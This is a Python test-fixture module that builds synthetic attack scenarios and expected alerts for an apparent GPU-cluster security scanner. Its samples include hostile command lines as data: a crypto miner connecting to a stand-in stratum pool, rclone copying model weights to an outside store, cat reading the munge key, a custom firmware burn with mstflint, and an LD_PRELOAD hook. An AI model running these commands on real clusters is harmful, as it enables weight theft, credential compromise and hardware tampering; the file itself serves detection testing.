"""Attack scenarios, at least three per threat vector, each beside alice's training job.

A scenario is a function returning a Scenario; its `expected` list names the rules that must
fire and the host, job, user and GPU the alerts must carry. `demo_samples` merges one attack of
every vector into one snapshot for `hpcsec scan --demo`.
"""

from __future__ import annotations

from scenario_common import (
    ATTACK_T0,
    HCAS,
    NODE,
    alert,
    at,
    dataloader_reads,
    epilog_finding,
    nccl_rates,
    node_sample,
)
from snapshot_model import FileAccess, GpuProc, Job, Proc, Qp, Sample, Scenario, Sock

BOB_JOB = Job(4260, "bob", "vision", "gpu-017", "gpu:2(IDX:4-5)", name="vit-eval",
              start="2026-11-30T00:30:00Z")
MALLORY_JOB = Job(4250, "mallory", "students", "gpu-017", "gpu:1(IDX:6)", name="hw3",
                  start="2026-11-30T00:40:00Z")
POOL = ("203.0.113.50", 3333)  # a stratum mining pool (TEST-NET-3 address)
DROP = ("198.51.100.23", 443)  # an attacker's object store (TEST-NET-2 address)
LLAMA70 = "/lustre/models/llama-70b"
LLAMA405 = "/lustre/models/llama-405b"


def times(n: int) -> list[str]:
    return [at(ATTACK_T0, 10 * i) for i in range(n)]


def scenario(name: str, summary: str, samples: list[Sample], expected: list) -> Scenario:
    return Scenario(name, summary, NODE, samples, expected)


def shards(base: str, total: int, first: int, n: int) -> list[str]:
    return [f"{base}/model-{i:05d}-of-{total:05d}.safetensors" for i in range(first, first + n)]


# ------------------------------------------------------------------------ rdma_abuse

def rdma_rkey_probing() -> Scenario:
    """A peer brute-forces rkeys of this node: ~35 responder access errors per sample."""
    samples = []
    for t in times(7):
        rates = nccl_rates()
        rates["mlx5_2"]["resp_remote_access_errors"] = 3.5
        samples.append(node_sample(t, rdma_rates=rates))
    return scenario("rdma_abuse-rkey-probing", "a remote peer probes rkeys of alice's "
                    "registered memory: remote access errors climb on mlx5_2", samples,
                    [alert("86512c1a-36af-4394-b0b4-c2a3fb74cd6f",
                           "RDMA rkey probing (remote access errors per minute)")])


def rdma_qp_outside_job() -> Scenario:
    """mallory runs an RDMA READ tool over SSH, outside any job."""
    tool = Proc(66100, "mallory", ["/usr/bin/ib_read_bw", "-d", "mlx5_1", "-s", "8388608",
                                   "10.30.0.18"])
    samples = [node_sample(t, procs=[tool], qps=[Qp("mlx5_1", 0x3300, 66100, "ib_read_bw",
                                                      rqpn=0x4400)]) for t in times(3)]
    return scenario("rdma_abuse-qp-outside-job", "mallory opens an RDMA queue pair from an "
                    "SSH session with no Slurm job", samples,
                    [alert("1a571c96-702d-4b79-a584-c65d36ff1e36",
                           "RDMA queue pair owned by a process outside any job")])


def rdma_read_surge() -> Scenario:
    """One-sided READ requests jump from nothing to 900k/s on mlx5_1 during training."""
    samples = [node_sample(t, rdma_rates=nccl_rates(reads_per_s=9.0e5 if i else 0.0))
               for i, t in enumerate(times(3))]
    return scenario("rdma_abuse-read-surge", "a peer pulls memory out of gpu-017 with RDMA "
                    "READs: 900k READ requests per second on mlx5_1", samples,
                    [alert("a0da42a0-f598-4fd2-a20a-eed88f41a1a7",
                           "Surge of one-sided RDMA READ requests")])


# ------------------------------------------------------------------------ gpu_hijack

def miner(pid: int = 51000, gpu: int = 7) -> tuple[Proc, GpuProc, Sock]:
    return (Proc(pid, "mallory", ["/home/mallory/.local/bin/python3", "/tmp/.x/worker.py",
                                  "--algo", "kawpow", "--url",
                                  f"stratum+tcp://{POOL[0]}:{POOL[1]}"], comm="python3"),
            GpuProc(gpu, pid, 11 << 30), Sock(pid, (NODE.ip, 51234), POOL))


def gpu_miner_without_job() -> Scenario:
    proc, gpu_proc, sock = miner()
    samples = [node_sample(t, procs=[proc], gpu_procs=[gpu_proc], sockets=[sock])
               for t in times(3)]
    return scenario("gpu_hijack-miner-without-job", "mallory mines on GPU 7 from a process "
                    "outside Slurm, connected to a stratum pool", samples, [
                        alert("761aedd6-bf44-46ef-8eb3-9259427d5ab7",
                              "GPU process outside any Slurm job", user="mallory", gpu=7),
                        alert("743946f7-19b5-40ca-97f8-197cf6f01537",
                              "Cryptocurrency miner process", user="mallory"),
                        alert("f10b2d6b-5f28-4805-a042-13d112c12370",
                              "GPU process outside a job talking to a mining pool")])


def gpu_outside_allocation() -> Scenario:
    """A process of alice's job (GPUs 0-3) also grabs GPU 6."""
    rogue = Proc(41007, "alice", ["/usr/bin/python3", "-u", "train.py", "--extra-gpu"],
                 job=4242, env={"CUDA_VISIBLE_DEVICES": "6"})
    samples = [node_sample(t, procs=[rogue], gpu_procs=[GpuProc(6, 41007)]) for t in times(3)]
    return scenario("gpu_hijack-outside-allocation", "a process of alice's job 4242 runs on "
                    "GPU 6, outside the job's allocation (GPUs 0-3)", samples, [
                        alert("9544d1e5-55bb-4e73-8fe3-dc7ac49a0586",
                              "Job process on a GPU outside its allocation",
                              job="4242", user="alice", gpu=6)])


def gpu_exposed_services() -> Scenario:
    """bob's job serves Jupyter and a Ray dashboard on every interface."""
    lab = Proc(42000, "bob", ["/usr/bin/python3", "/home/bob/.local/bin/jupyter-lab",
                              "--ip=0.0.0.0", "--port=8888", "--no-browser"], job=4260,
               comm="jupyter-lab")
    ray = Proc(42100, "bob", ["/usr/bin/python3", "-m", "ray.dashboard.dashboard",
                              "--host=0.0.0.0", "--port=8265"], job=4260)
    extra = dict(procs=[lab, ray], jobs=[BOB_JOB],
                 sockets=[Sock(42000, ("0.0.0.0", 8888), state="LISTEN"),
                          Sock(42100, ("0.0.0.0", 8265), state="LISTEN")])
    samples = [node_sample(t, **extra) for t in times(2)]
    return scenario("gpu_hijack-exposed-services", "bob's job 4260 exposes Jupyter and the "
                    "Ray dashboard on 0.0.0.0 of a compute node", samples, [
                        alert("b6bd43b5-dda7-4aab-96a4-57ddfde69cec",
                              "Inference, notebook or Ray service listening on a compute node",
                              job="4260", user="bob")])


# ------------------------------------------------------------------------ model_theft

def model_unauthorised_reader() -> Scenario:
    """mallory's job (account students) loads llama-70b, reserved to llm-core."""
    thief = Proc(61000, "mallory", ["/usr/bin/python3", "load.py", LLAMA70], job=4250)
    files = [FileAccess(61000, p, ["open", "read"], count=40) for p in shards(LLAMA70, 30, 1, 3)]
    samples = [node_sample(t, procs=[thief], jobs=[MALLORY_JOB],
                           files=files if i == 1 else []) for i, t in enumerate(times(2))]
    return scenario("model_theft-unauthorised-reader", "mallory's job 4250 (account students) "
                    "reads llama-70b, which only llm-core may read", samples, [
                        alert("4c174e27-ed1a-4006-900a-52f92b9e8ebf",
                              "Model weights read by an account not allowed for that model",
                              job="4250", user="mallory")])


def model_rclone_exfiltration() -> Scenario:
    """alice (allowed to read) copies llama-70b off the cluster with rclone, in her job."""
    rclone = Proc(61100, "alice", ["/usr/bin/rclone", "copy", LLAMA70, "drop:bucket/m"],
                  job=4242, step="extern")
    files = [FileAccess(61100, p, ["open", "read"], count=2400, size=4_983_000_000)
             for p in shards(LLAMA70, 30, 1, 4)]
    samples = [node_sample(times(3)[0], procs=[rclone]),
               node_sample(times(3)[1], procs=[rclone], files=files),
               node_sample(times(3)[2], procs=[rclone], sockets=[Sock(61100, (NODE.ip, 53002),
                                                                     DROP)])]
    return scenario("model_theft-rclone-exfiltration", "alice copies llama-70b to an outside "
                    "object store with rclone from inside her job", samples, [
                        alert("2bfe7e5b-9535-4165-b5f8-2deff1e79153",
                              "Model weights read by a copy or network tool",
                              job="4242", user="alice"),
                        alert("29a01723-7079-494a-a963-9f1f09050a8b",
                              "Model weights read, then a connection out of the cluster")])


def model_bulk_sweep() -> Scenario:
    """alice reads 80 distinct llama-405b shards in a minute from an SSH session."""
    sweep = Proc(61200, "alice", ["/usr/bin/python3", "-c", "import shutil,sys; ..."])
    paths = shards(LLAMA405, 191, 1, 80)
    samples = [node_sample(t, procs=[sweep],
                           files=[FileAccess(61200, p, ["open", "read"], count=300)
                                  for p in paths[40 * (i - 1):40 * i]] if i else [])
               for i, t in enumerate(times(3))]
    return scenario("model_theft-bulk-sweep", "alice sweeps 80 shards of llama-405b within a "
                    "minute, outside any job", samples, [
                        alert("d645ba84-0dfe-4c7d-87cd-3046bceb1766",
                              "Many distinct model weight files read by one user",
                              user="alice"),
                        alert("65caeae4-39b1-44e5-87be-dc77c7e347fa",
                              "Model weights read outside any Slurm job", user="alice")])


# ------------------------------------------------------------------------ data_poisoning

def poison_dataset_by_non_publisher() -> Scenario:
    """bob's job rewrites ImageNet labels and images it may only read."""
    writer = Proc(62100, "bob", ["/usr/bin/python3", "relabel.py"], job=4260)
    base = "/lustre/datasets/imagenet"
    files = [FileAccess(62100, f"{base}/train/n01440764/n01440764_{k}.JPEG",
                        ["open", "write", "close_write"]) for k in (10026, 10027)]
    files.append(FileAccess(62100, f"{base}/LOC_synset_mapping.txt", ["rename"],
                            target=f"{base}/LOC_synset_mapping.txt.orig"))
    samples = [node_sample(t, procs=[writer], jobs=[BOB_JOB], files=files if i else [])
               for i, t in enumerate(times(2))]
    return scenario("data_poisoning-dataset-by-non-publisher", "bob's job 4260 modifies and "
                    "renames files of the read-only imagenet dataset", samples, [
                        alert("002b7b30-aff2-42bd-bdc4-f1ceeca24e61",
                              "Read-only dataset modified by a non-publisher",
                              job="4260", user="bob")])


def poison_released_checkpoint() -> Scenario:
    """mallory overwrites a released checkpoint shard (pickle with a payload)."""
    writer = Proc(62200, "mallory", ["/usr/bin/python3", "patch_ckpt.py"])
    path = "/lustre/checkpoints/released/llama-70b-sft/step-5000/model.pt"
    samples = [node_sample(t, procs=[writer], files=[FileAccess(
        62200, path, ["open", "write", "close_write"], size=1_342_177_280)] if i else [])
        for i, t in enumerate(times(2))]
    return scenario("data_poisoning-released-checkpoint", "mallory overwrites a released "
                    "checkpoint from an SSH session", samples, [
                        alert("ad664489-a053-48ac-b1bf-a6cf63b0cfe0",
                              "Released checkpoint modified by a non-publisher",
                              user="mallory")])


def poison_burst_during_training() -> Scenario:
    """The publisher account (compromised) rewrites 24 c4 shards while alice trains on c4."""
    writer = Proc(62300, "svc-data", ["/usr/bin/python3", "/opt/publish/sync.py", "--force"])
    samples = []
    for i, t in enumerate(times(3)):
        files = dataloader_reads(41000, 4 * i)
        if i:
            files += [FileAccess(62300, f"/lustre/datasets/c4/en/c4-train.{k:05d}-of-01024"
                                        ".json.gz", ["create", "write", "close_write"])
                      for k in range(12 * (i - 1), 12 * i)]
        samples.append(node_sample(t, procs=[writer], files=files))
    return scenario("data_poisoning-burst-during-training", "24 shards of c4 are rewritten "
                    "within 20 seconds while alice's job 4242 reads c4", samples, [
                        alert("ba2cd488-f3c1-4bca-b347-8fa705e7f55b",
                              "Burst of modifications to a protected dataset"),
                        alert("92ced819-f344-4ef6-92c1-7cf65fbff758",
                              "Dataset modified while a training job reads it")])


# ------------------------------------------------------------------------ firmware_drift

def firmware_vulnerable_hca() -> Scenario:
    samples = [node_sample(t, hca_fw={"mlx5_2": "28.33.2028"}) for t in times(2)]
    return scenario("firmware_drift-vulnerable-hca", "mlx5_2 runs HCA firmware 28.33.2028: "
                    "off baseline and on the known-vulnerable list", samples, [
                        alert("2d6643a2-3a1b-4dc9-b37a-8ae98c1d0ce1",
                              "Firmware differs from the golden baseline"),
                        alert("34d03740-1969-41cf-adbc-7ecec0a1af84",
                              "Firmware version on the site's known-vulnerable list")])


def firmware_flashed_by_user() -> Scenario:
    """bob flashes mlx5_0 from inside his job; the version changes at the next sample."""
    flint = Proc(63000, "bob", ["/usr/bin/mstflint", "-d", "0000:1b:00.0", "-i",
                                "/home/bob/fw-custom.bin", "-y", "burn"], job=4260)
    t = times(3)
    samples = [node_sample(t[0], jobs=[BOB_JOB]),
               node_sample(t[1], jobs=[BOB_JOB], procs=[flint]),
               node_sample(t[2], jobs=[BOB_JOB], hca_fw={"mlx5_0": "28.39.9999"})]
    return scenario("firmware_drift-flashed-by-user", "bob runs mstflint inside job 4260 and "
                    "the firmware of mlx5_0 changes outside any maintenance window", samples, [
                        alert("7bde829e-9a4c-4a55-b558-b5728fff32e0",
                              "Firmware flashing tool run by a non-admin or inside a job",
                              job="4260", user="bob"),
                        alert("b0e9a4b6-b97f-40c4-8351-8705bfde1d9c",
                              "Firmware version changed since the previous scan"),
                        alert("40188d5e-dbb4-496b-8d22-f5e347c5dc5e",
                              "Firmware flashed outside a maintenance window")])


def firmware_vbios_changed() -> Scenario:
    """GPU 3's VBIOS changes between two scans with no maintenance declared."""
    t = times(2)
    samples = [node_sample(t[0]), node_sample(t[1], vbios={3: "96.00.99.00.07"})]
    return scenario("firmware_drift-vbios-changed", "the VBIOS of GPU 3 changes between two "
                    "samples outside maintenance", samples, [
                        alert("b0e9a4b6-b97f-40c4-8351-8705bfde1d9c",
                              "Firmware version changed since the previous scan"),
                        alert("2d6643a2-3a1b-4dc9-b37a-8ae98c1d0ce1",
                              "Firmware differs from the golden baseline")])


# ------------------------------------------------------------------------ isolation_escape

def isolation_shared_gpu() -> Scenario:
    """mallory's job (GPU 6) also runs on GPU 0, which alice's job uses: no MIG."""
    snoop = Proc(65000, "mallory", ["/usr/bin/python3", "snoop.py", "--device", "0"], job=4250)
    samples = [node_sample(t, procs=[snoop], jobs=[MALLORY_JOB],
                           gpu_procs=[GpuProc(0, 65000, 1 << 30)]) for t in times(2)]
    return scenario("isolation_escape-shared-gpu", "mallory's process shares GPU 0 with "
                    "alice's training rank; the GPU has no MIG", samples, [
                        alert("5b887c0d-a460-449f-8ed2-ac861847b0a6",
                              "Two users' processes on one GPU without MIG"),
                        alert("9544d1e5-55bb-4e73-8fe3-dc7ac49a0586",
                              "Job process on a GPU outside its allocation",
                              job="4250", user="mallory", gpu=0)])


def isolation_munge_key() -> Scenario:
    """A root shell (escalated by mallory) copies the munge key."""
    cat = Proc(64100, "root", ["cat", "/etc/munge/munge.key"], ppid=64090)
    samples = [node_sample(t, procs=[cat], files=[FileAccess(64100, "/etc/munge/munge.key",
                                                             ["open", "read"], size=1024)]
                           if i else []) for i, t in enumerate(times(2))]
    return scenario("isolation_escape-munge-key", "a root shell reads /etc/munge/munge.key "
                    "with cat", samples, [
                        alert("926ff8b4-dbdd-4d0b-960a-78c51984278a",
                              "munge.key accessed by anything but munged", user="root")])


def isolation_ld_preload() -> Scenario:
    """alice's rank 1 runs with a preloaded CUDA hook dropped by a malicious package."""
    samples = []
    for t in times(2):
        sample = node_sample(t)
        for proc in sample.procs:
            if proc.pid == 41001:
                proc.env["LD_PRELOAD"] = "/home/alice/.cache/pip/.hooks/libcudahook.so"
        samples.append(sample)
    return scenario("isolation_escape-ld-preload", "a GPU rank of alice's job 4242 runs with "
                    "LD_PRELOAD pointing at an unknown CUDA hook", samples, [
                        alert("72377c41-beb2-4055-9a89-cbaab0a7bcc1",
                              "LD_PRELOAD set in a job's GPU process", job="4242",
                              user="alice")])


def isolation_leftovers_and_ecc() -> Scenario:
    """bob's finished job left a process; ECC is off on GPU 5; mallory has a shell."""
    ended = Job(4199, "bob", "vision", "gpu-017", "gpu:1(IDX:5)", name="sweep",
                state="COMPLETED", start="2026-11-30T00:00:00Z", end="2026-11-30T00:59:30Z")
    leftover = Proc(51500, "bob", ["/usr/bin/python3", "sweep_worker.py"], job=4199)
    shell = Proc(64500, "mallory", ["-bash"], comm="bash")
    t = times(2)
    samples = [node_sample(t[0], jobs=[ended], procs=[leftover, shell],
                           ecc_off=(5,),
                           slurm_events=[epilog_finding(t[0], ended, 51500, "python3")]),
               node_sample(t[1], jobs=[ended], procs=[leftover, shell],
                           ecc_off=(5,))]
    return scenario("isolation_escape-leftovers-and-ecc", "a process of bob's ended job 4199 "
                    "survives the epilog, GPU 5 runs with ECC off, and mallory has a shell "
                    "without a job", samples, [
                        alert("7436c9e5-ce89-4cfb-a138-f9d418f72c69",
                              "Processes left behind after the job ended", job="4199",
                              user="bob"),
                        alert("dbfac5cc-10bb-42f3-8622-fa64de82ef61",
                              "Process still running in a job that has ended", job="4199",
                              user="bob"),
                        alert("494c85a1-d78e-43c8-9518-d117a318f4cd",
                              "GPU with ECC disabled", gpu=5),
                        alert("9dba2bf4-de8f-4cf6-9a79-ce4e0b5e5454",
                              "Process of a regular user outside any Slurm job",
                              user="mallory")])


ATTACKS = (
    rdma_rkey_probing, rdma_qp_outside_job, rdma_read_surge,
    gpu_miner_without_job, gpu_outside_allocation, gpu_exposed_services,
    model_unauthorised_reader, model_rclone_exfiltration, model_bulk_sweep,
    poison_dataset_by_non_publisher, poison_released_checkpoint, poison_burst_during_training,
    firmware_vulnerable_hca, firmware_flashed_by_user, firmware_vbios_changed,
    isolation_shared_gpu, isolation_munge_key, isolation_ld_preload,
    isolation_leftovers_and_ecc,
)


def demo_samples() -> tuple[list[Sample], list[dict]]:
    """One node, four samples: alice trains while one attack of every vector happens."""
    t = times(4)
    miner_proc, miner_gpu, miner_sock = miner()
    rclone = Proc(61100, "alice", ["/usr/bin/rclone", "copy", LLAMA70, "drop:bucket/m"],
                  job=4242, step="extern")
    relabel = Proc(62100, "bob", ["/usr/bin/python3", "relabel.py"], job=4260)
    flint = Proc(63000, "bob", ["/usr/bin/mstflint", "-d", "0000:1b:00.0", "-y", "burn"],
                 job=4260)
    cat = Proc(64100, "root", ["cat", "/etc/munge/munge.key"], ppid=64090)
    procs = [miner_proc, rclone, relabel, flint, cat]
    samples = []
    for i, when in enumerate(t):
        rates = nccl_rates()
        rates["mlx5_2"]["resp_remote_access_errors"] = 4.0
        files = dataloader_reads(41000, 4 * i)
        if i == 1:
            files += [FileAccess(61100, p, ["open", "read"], count=2400)
                      for p in shards(LLAMA70, 30, 1, 4)]
            files += [FileAccess(62100, "/lustre/datasets/imagenet/train/n01440764/"
                                 "n01440764_10026.JPEG", ["open", "write", "close_write"])]
            files += [FileAccess(64100, "/etc/munge/munge.key", ["open", "read"])]
        samples.append(node_sample(
            when, jobs=[BOB_JOB], procs=list(procs), gpu_procs=[miner_gpu],
            sockets=[miner_sock], files=files, rdma_rates=rates,
            hca_fw={"mlx5_2": "28.33.2028"}))
    expected = [
        alert("86512c1a-36af-4394-b0b4-c2a3fb74cd6f",
              "RDMA rkey probing (remote access errors per minute)"),
        alert("761aedd6-bf44-46ef-8eb3-9259427d5ab7", "GPU process outside any Slurm job",
              user="mallory", gpu=7),
        alert("2bfe7e5b-9535-4165-b5f8-2deff1e79153",
              "Model weights read by a copy or network tool", job="4242", user="alice"),
        alert("002b7b30-aff2-42bd-bdc4-f1ceeca24e61",
              "Read-only dataset modified by a non-publisher", job="4260", user="bob"),
        alert("34d03740-1969-41cf-adbc-7ecec0a1af84",
              "Firmware version on the site's known-vulnerable list"),
        alert("7bde829e-9a4c-4a55-b558-b5728fff32e0",
              "Firmware flashing tool run by a non-admin or inside a job", job="4260",
              user="bob"),
        alert("926ff8b4-dbdd-4d0b-960a-78c51984278a",
              "munge.key accessed by anything but munged", user="root"),
    ]
    return samples, expected


__all__ = ["ATTACKS", "HCAS", "demo_samples"]
